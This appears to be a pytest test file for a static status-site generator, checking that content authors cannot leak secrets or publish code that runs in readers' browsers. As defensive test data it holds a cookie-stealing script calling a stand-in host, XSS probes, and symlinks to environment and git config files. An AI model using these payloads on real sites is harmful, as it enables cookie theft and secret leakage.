"""A content author cannot attack readers or the build machine (docs/proof.md, "Safety").

Each case runs the real command line on a small hub with a published site, as the hostile
corpus does (tests/test_hostile_input.py), and names the exact line `check` must print.
"""

from __future__ import annotations

import os
import re
from pathlib import Path

import pytest
from conftest import HubFolder
from test_hostile_input import INCIDENT, base_hub, no_staging_left, run, tree_digest

from generator.cli.main import main


@pytest.fixture
def hub(tmp_path: Path) -> HubFolder:
    hub = base_hub(tmp_path)
    assert main(["--config", str(tmp_path / "mkdocs.yml"), "build"]) == 0
    return hub


def check_and_build_fail(hub: HubFolder, capsys: pytest.CaptureFixture[str], *expected: str) -> str:
    """`check` and `build` both refuse with every expected line; the site stays as it was."""
    before = tree_digest(hub.root / "site")
    code, output = run(hub.root, capsys, "check")
    assert code == 1, output
    for line in expected:
        assert line in output.splitlines(), output
    code, build_output = run(hub.root, capsys, "build")
    assert code == 1, build_output
    assert tree_digest(hub.root / "site") == before
    no_staging_left(hub.root)
    return output


# -- 2. links out of content/, loops, special files ------------------------------------------

def test_a_link_to_the_environment_is_refused_and_never_published(
        hub: HubFolder, capsys: pytest.CaptureFixture[str]) -> None:
    os.environ["CRISISHUB_TEST_SECRET"] = "s3cr3t-token-value"
    try:
        (hub.content / "pages/env.txt").symlink_to("/proc/self/environ")
        output = check_and_build_fail(
            hub, capsys,
            "content/pages/env.txt: is a link to /proc/self/environ, outside the content folder; "
            "only files inside content/ are published: replace it with a copy of the file, or "
            "delete it")
    finally:
        del os.environ["CRISISHUB_TEST_SECRET"]
    assert "s3cr3t" not in output
    assert not any("s3cr3t" in p.read_text(errors="replace")
                   for p in (hub.root / "site").rglob("*") if p.is_file())


def test_a_link_to_git_config_and_a_linked_incident_folder_are_refused(
        hub: HubFolder, capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    git = tmp_path / ".git"
    git.mkdir()
    (git / "config").write_text("[remote]\n url = https://token@example.com/x.git\n")
    (hub.content / "pages/git.txt").symlink_to("../../.git/config")
    outside = tmp_path / "elsewhere"
    (outside / "x").mkdir(parents=True)
    (hub.content / "incidents/2026-11-25-linked").symlink_to(outside)
    check_and_build_fail(
        hub, capsys,
        "content/pages/git.txt: is a link to ../../.git/config, outside the content folder; "
        "only files inside content/ are published: replace it with a copy of the file, or delete it",
        f"content/incidents/2026-11-25-linked: is a link to {outside}, outside the content "
        "folder; only files inside content/ are published: replace it with a copy of the file, "
        "or delete it")


def test_link_loops_and_named_pipes_are_refused(hub: HubFolder,
                                                capsys: pytest.CaptureFixture[str]) -> None:
    (hub.content / "pages/loop").symlink_to("..")
    (hub.content / "pages/a.md").symlink_to("b.md")
    (hub.content / "pages/b.md").symlink_to("a.md")
    os.mkfifo(hub.content / f"incidents/{INCIDENT}/03.md")
    check_and_build_fail(
        hub, capsys,
        "content/pages/loop: is a link to a folder that contains it, so reading it never ends; "
        "replace it with a copy of the file, or delete it",
        "content/pages/a.md: is a link that leads round in a circle; replace it with a copy of "
        "the file, or delete it",
        f"content/incidents/{INCIDENT}/03.md: is a named pipe, not a file; delete it")


def test_a_link_inside_content_is_fine(hub: HubFolder, capsys: pytest.CaptureFixture[str]) -> None:
    hub.write("pages/about.md", "# About us\n")
    (hub.content / "pages/company.md").symlink_to("about.md")
    code, output = run(hub.root, capsys, "build")
    assert code == 0, output
    assert "About us" in (hub.root / "site/company/index.html").read_text()


# -- 3. every output path is claimed once ----------------------------------------------------

@pytest.mark.parametrize(("target", "text", "expected"), [
    ("faq/index.md", "---\nquestion: Index?\n---\nAn answer.\n",
     "content/faq/index.md: would write /faq/index.html, which the generated page /faq/ writes "
     "already; two files cannot share one address: rename this file (or this id)"),
    ("pages/history.md", "# Our history\n",
     "content/pages/history.md: would write /history/index.html, which the generated page "
     "/history/ writes already; two files cannot share one address: rename this file (or this id)"),
    ("pages/api/v2/summary.json", "{}",
     "content/pages/api/v2/summary.json: would write /api/v2/summary.json, which the generated "
     "file /api/v2/summary.json writes already; two files cannot share one address: rename this "
     "file (or this id)"),
    ("pages/feeds/rss.xml", "<rss/>",
     "content/pages/feeds/rss.xml: would write /feeds/rss.xml, which the generated file "
     "/feeds/rss.xml writes already; two files cannot share one address: rename this file (or "
     "this id)"),
])
def test_a_second_claim_on_an_address_is_an_error(hub: HubFolder,
                                                  capsys: pytest.CaptureFixture[str],
                                                  target: str, text: str, expected: str) -> None:
    hub.write(target, text)
    check_and_build_fail(hub, capsys, expected)


def test_a_component_named_index_would_replace_the_components_page(
        hub: HubFolder, capsys: pytest.CaptureFixture[str]) -> None:
    hub.write_components({"components": [{"id": "web", "name": "Website"},
                                         {"id": "api", "name": "API"},
                                         {"id": "index", "name": "Index"}]})
    check_and_build_fail(
        hub, capsys,
        "content/components.yml: would write /components/index.html, which the generated page "
        "/components/ writes already; two files cannot share one address: rename this file (or "
        "this id)")


def test_two_hand_written_pages_for_one_address(hub: HubFolder,
                                                capsys: pytest.CaptureFixture[str]) -> None:
    hub.write("pages/press.md", "# Press\n")
    hub.write("pages/press/index.md", "# Press too\n")
    output = check_and_build_fail(hub, capsys)
    assert re.search(r"content/pages/press(/index)?\.md: would write /press/index.html, which "
                     r"content/pages/press(/index)?\.md writes already", output), output


@pytest.mark.parametrize(("target", "expected"), [
    ("pages/developers.md",
     "content/pages/developers.md: would write /developers/index.html, which the generated page "
     "/developers/ writes already; two files cannot share one address: rename this file (or "
     "this id)"),
    ("pages/report.md",
     "content/pages/report.md: would write /report/index.html, which the generated page "
     "/report/ writes already; two files cannot share one address: rename this file (or this "
     "id)"),
    ("pages/admin/index.md",
     "content/pages/admin/index.md: would write /admin/index.html, inside the browser editor's "
     "folder /admin/; give this file another name or folder"),
    ("pages/assets/javascripts/bundle.md",
     "content/pages/assets/javascripts/bundle.md: would write "
     "/assets/javascripts/bundle/index.html, inside the theme's own folder /assets/; give this "
     "file another name or folder"),
])
def test_hand_written_pages_cannot_take_generated_pages_or_theme_folders(
        hub: HubFolder, capsys: pytest.CaptureFixture[str], target: str, expected: str) -> None:
    hub.write(target, "# Ours\n")
    check_and_build_fail(hub, capsys, expected)


def test_a_hand_written_page_cannot_take_another_languages_site(
        example_copy: Path, capsys: pytest.CaptureFixture[str]) -> None:
    (example_copy / "content" / "pages" / "ru.md").write_text("# Not the Russian site\n")
    assert main(["--config", str(example_copy / "mkdocs.yml"), "check"]) == 1
    assert ("content/pages/ru.md: would write /ru/index.html, inside the 'ru' version of the "
            "site (/ru/); give this file another name or folder") in \
        capsys.readouterr().err.splitlines()


@pytest.mark.parametrize(("name", "expected"), [
    ("press.html", "content/pages/press.html: a .html file here would be published as it is and "
                   "could run code in readers' browsers; write the page in Markdown (.md), or "
                   "save a picture as .png or .jpg"),
    ("assets/javascripts/bundle.min.js",
     "content/pages/assets/javascripts/bundle.min.js: a .js file here would be published as it "
     "is and could run code in readers' browsers; write the page in Markdown (.md), or save a "
     "picture as .png or .jpg"),
    ("logo.svg", "content/pages/logo.svg: a .svg file here would be published as it is and could "
                 "run code in readers' browsers; write the page in Markdown (.md), or save a "
                 "picture as .png or .jpg"),
    ("notes.docx", "content/pages/notes.docx: 'notes.docx' is not a kind of file the site "
                   "publishes; use a Markdown page (.md) or one of: .avif, .csv, .gif, .ico, "
                   ".jpeg, .jpg, .pdf, .png, .txt, .webp"),
])
def test_hand_written_files_that_could_run_code_are_refused(
        hub: HubFolder, capsys: pytest.CaptureFixture[str], name: str, expected: str) -> None:
    hub.write(f"pages/{name}", "<script>fetch('https://evil.example/?' + document.cookie)</script>")
    check_and_build_fail(hub, capsys, expected)


def test_a_hand_written_page_is_sanitised_and_checked_like_an_update(
        hub: HubFolder, capsys: pytest.CaptureFixture[str]) -> None:
    hub.write("pages/press.md", '# Press\n\n<p id="__config">{"base": "https://evil.example"}'
                                '</p>\n')
    check_and_build_fail(
        hub, capsys,
        "content/pages/press.md:3: the id '__config' belongs to the page around the text and "
        "would be removed; choose another id (ids starting with __, md-, ch-, update-, "
        "maintenance-, role- and the id 'postmortem' are the page's own)")
    hub.write("pages/press.md", "# Press\n\nContact us.\n\n<script>alert('XSSMARK')</script>\n"
                                "<img src=x onerror=\"alert('XSSMARK')\">\n")
    code, output = run(hub.root, capsys, "build")
    assert code == 0, output
    page = (hub.root / "site" / "press" / "index.html").read_text()
    assert "Contact us." in page and "XSSMARK" not in page


# -- 9. times against each other and the build time -----------------------------------------

def test_a_resolved_update_in_the_future_is_a_warning(hub: HubFolder,
                                                      capsys: pytest.CaptureFixture[str]) -> None:
    hub.write_update(INCIDENT, "02", at="2999-11-24 10:30", status="resolved",
                     body="Fixed. We are sorry.")
    code, output = run(hub.root, capsys, "check")
    assert (f"content/incidents/{INCIDENT}/02.md:2: warning: at: 2999-11-24T10:30+01:00 is in "
            "the future (the build time is 2026-11-24T12:00+01:00); check the date, or wait "
            "until then to publish") in output.splitlines(), output
    code, output = run(hub.root, capsys, "check", "--strict")
    assert code == 1


def test_two_updates_at_the_same_time_are_a_warning(hub: HubFolder,
                                                    capsys: pytest.CaptureFixture[str]) -> None:
    hub.write_update(INCIDENT, "02", at="2026-11-24 10:00", status="identified",
                     body="We found it.")
    code, output = run(hub.root, capsys, "check", "--strict")
    assert code == 1
    assert (f"content/incidents/{INCIDENT}/02.md:2: warning: at: 2026-11-24T10:00:00+01:00 is "
            "also the time of 01.md; they are shown in file name order: give this update a later "
            "time if that is wrong") in output.splitlines(), output
